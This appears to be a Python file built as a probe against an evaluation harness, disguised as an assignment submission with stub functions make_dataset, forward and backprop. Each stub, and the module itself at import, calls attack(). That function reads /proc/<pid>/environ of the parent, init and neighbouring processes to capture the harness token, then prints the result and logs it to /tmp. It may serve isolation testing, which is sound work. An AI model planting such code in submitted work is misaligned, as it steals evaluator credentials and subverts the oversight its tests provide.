"""Reads other processes' environments, where the harness keeps its token."""
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE proc-environ:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-proc-environ", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

def attack():
    pids = [os.getppid(), 1, *range(max(2, os.getpid() - 60), os.getpid())]
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                content = file.read(200)
            evidence(f"{pid}: {content!r}")
        except (OSError, ValueError):
            continue


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
